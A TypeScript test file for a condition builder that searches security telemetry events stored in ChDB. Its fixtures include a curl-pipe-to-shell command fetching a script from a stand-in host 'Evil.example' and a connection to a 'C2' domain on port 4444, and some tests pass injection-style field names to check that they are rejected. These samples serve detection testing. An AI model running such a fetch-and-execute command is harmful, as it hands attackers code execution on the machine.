import { randomUUID } from 'node:crypto'
import { mkdtempSync, rmSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import fc from 'fast-check'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { openTelemetryStore } from './chdb-store.ts'
import { Conditions, searchable } from './conditions.ts'
import type { TelemetryStore } from './telemetry-store.ts'

const AGENT = 'abcdefghijklmnopqrstuvwxyz'
const SHA = 'ab'.repeat(32)
const EVENTS: readonly Record<string, unknown>[] = [
  {
    process: {
      pid: 0,
      name: 'Curl',
      entity_id: 'Boot:77:1',
      executable: '/usr/bin/curl',
      command_line: 'curl -s http://Evil.example/pay-load.sh | sh',
      args: ['curl', '-s', 'http://Evil.example/pay-load.sh'],
      exit_code: 0,
      hash: { sha256: SHA },
      ancestors: [{ pid: 1, entity_id: 'Boot:1:1', name: 'systemd' }],
    },
  },
  { process: { pid: 9, name: 'sh', parent: { entity_id: 'Boot:77:1' } }, message: 'Straße \u212a 100%_done' },
  { source: { ip: '::', port: 0 }, destination: { ip: '2001:DB8::9', port: 4444, domain: 'C2.Evil.example' } },
  {
    destination: { ip: '10.1.2.3', port: 443 },
    dns: { resolved_ip: ['10.9.9.9', '::1'], answers: [{ data: 'x.test' }] },
  },
  { winlog: { channel: 'Security', event_id: '4688', event_data: { 'Target.User': 'Bob', Count: 7 } } },
]

let dir: string
let store: TelemetryStore
beforeAll(async () => {
  dir = mkdtempSync(join(tmpdir(), 'fb-conditions-'))
  store = await openTelemetryStore(dir)
  const epoch = randomUUID()
  await store.insert(
    'block',
    EVENTS.map((event, i) => ({
      agentId: AGENT,
      epoch,
      class: 'process',
      seq: i,
      ingestedAt: '2026-03-01T10:01:00.000Z',
      json: Buffer.from(
        JSON.stringify({
          '@timestamp': `2026-03-01T10:00:0${i}.000Z`,
          event: { category: ['process'], type: ['start'], action: `a-${i}` },
          ...event,
        }),
      ),
    })),
  )
})
afterAll(async () => {
  await store.close()
  rmSync(dir, { recursive: true, force: true })
})

async function found(write: (conditions: Conditions) => string): Promise<number[]> {
  const conditions = new Conditions()
  const where = conditions.statement(write(conditions))
  const answer = await store.find({ where, order: 'oldest', limit: 100 })
  if (!answer.ok) throw new Error(answer.why)
  return answer.value.map(({ key }) => key.seq)
}

describe('a condition over events', () => {
  it.each<[string, (c: Conditions) => string, number[]]>([
    ['a name, without case', (c) => c.equals('process.name', 'cURL'), [0]],
    ['a name by wildcard', (c) => c.like('process.name', 'c?R*'), [0]],
    ['a hash', (c) => c.equals('process.hash.sha256', SHA.toUpperCase()), [0]],
    ['a process, with case', (c) => c.equals('process.entity_id', 'Boot:77:1'), [0]],
    ['a process in another case, which is another', (c) => c.equals('process.entity_id', 'boot:77:1'), []],
    ['children of several processes', (c) => c.anyOf('process.parent.entity_id', ['x', 'Boot:77:1']), [1]],
    ['any of several names', (c) => c.anyOf('process.name', ['SH', 'zsh']), [1]],
    [
      'a command line, whole',
      (c) => c.equals('process.command_line', 'CURL -s http://evil.example/PAY-load.sh | sh'),
      [0],
    ],
    ['a command line by wildcards', (c) => c.like('process.command_line', '*evil.*/pay*'), [0]],
    ['a command line by a part of a word', (c) => c.like('process.command_line', '*vil.exam*'), [0]],
    ['a backslash before a wildcard', (c) => c.like('message', '*100%\\_done'), [1]],
    ['words anywhere', (c) => c.words('SH load'), [0]],
    ['words that no index can be sure of', (c) => c.words('straße'), [1]],
    ['a letter whose lower case is another alphabet’s', (c) => c.words('k'), [1]],
    ['a part of a word, anywhere', (c) => c.contains('vil.EXAM'), [0, 2]],
    ['percent and underscore as they stand', (c) => c.contains('100%_d'), [1]],
    ['a number that is 0, and not one that is missing', (c) => c.equals('process.pid', '0'), [0]],
    ['an exit code of 0', (c) => c.equals('process.exit_code', '0'), [0]],
    ['a range of numbers with 0 in it', (c) => c.compare('source.port', '<', '100'), [2]],
    ['a range of numbers', (c) => c.compare('destination.port', '>=', '444'), [2]],
    ['a number by wildcard', (c) => c.like('destination.port', '44*'), [2, 3]],
    ['no number', (c) => c.equals('destination.port', 'x'), []],
    ['an address, without case', (c) => c.equals('destination.ip', '2001:db8::9'), [2]],
    ['the address of nothing, and not none', (c) => c.equals('source.ip', '::'), [2]],
    ['a block of addresses', (c) => c.inBlock('destination.ip', '10.0.0.0/8'), [3]],
    ['a block of addresses of IPv6', (c) => c.inBlock('destination.ip', '2001:db8::/32'), [2]],
    ['a block of addresses in a list', (c) => c.inBlock('dns.resolved_ip', '10.9.0.0/16'), [3]],
    ['one of a list', (c) => c.equals('dns.resolved_ip', '::1'), [3]],
    ['a domain, without case', (c) => c.equals('destination.domain', 'c2.evil.EXAMPLE'), [2]],
    ['what there is', (c) => c.exists('destination.port'), [2, 3]],
    ['what there is, also as 0', (c) => c.exists('process.exit_code'), [0]],
    ['what there is not', (c) => `not ${c.exists('process.name')}`, [2, 3, 4]],
    ['not a number', (c) => `not ${c.equals('process.exit_code', '0')}`, [1, 2, 3, 4]],
    ['a time', (c) => c.compare('@timestamp', '>', '2026-03-01T10:00:03Z'), [4]],
    ['a host', (c) => c.equals('host.id', 'z'), []],
    ['one event', (c) => c.equals('event.id', `${AGENT}:not-an-epoch:process:1`), []],
    ['a field without a column', (c) => c.equals('winlog.event_data.Target.User', 'bob'), [4]],
    ['a number without a column, as text', (c) => c.equals('winlog.event_data.Count', '7'), [4]],
    ['a list without a column', (c) => c.equals('process.args', '-S'), [0]],
    ['a list of objects', (c) => c.equals('process.ancestors.name', 'Systemd'), [0]],
    ['a list of objects by wildcard', (c) => c.like('dns.answers.data', 'x.*'), [3]],
  ])('finds %s', async (_, write, expected) => {
    expect(await found(write)).toEqual(expected)
  })

  it('knows what can be asked of a field, and refuses what the schema has not', () => {
    expect(searchable('process.name')).toEqual({ as: 'text', column: true })
    expect(searchable('destination.port')).toEqual({ as: 'number', column: true })
    expect(searchable('file.inode')).toEqual({ as: 'text', column: false })
    expect(searchable('process.args_count')).toEqual({ as: 'number', column: false })
    expect(searchable('process')).toBeUndefined()
    for (const field of ['raw) or (1', 'process.nothing', "winlog.event_data'", '__proto__', 'process.constructor'])
      expect(() => new Conditions().equals(field, 'x'), field).toThrow(
        expect.objectContaining({ code: 'unknown_field' }),
      )
  })

  it('takes whatever text is searched for as that text', async () => {
    await fc.assert(
      fc.asyncProperty(
        fc.string({ unit: 'grapheme', maxLength: 40 }),
        fc.string({ unit: 'binary-ascii', maxLength: 40 }),
        async (a, b) => {
          const answer = await store.select<{ a: string; b: readonly string[] }>({
            sql: 'select {a:String} as a, {b:Array(String)} as b',
            params: { a: `${a}{b:String}${b}`, b: [b, a, "'", '\\', "\\'"] },
          })
          expect(answer).toEqual({ ok: true, value: [{ a: `${a}{b:String}${b}`, b: [b, a, "'", '\\', "\\'"] }] })
        },
      ),
      { numRuns: 150 },
    )
  })
})
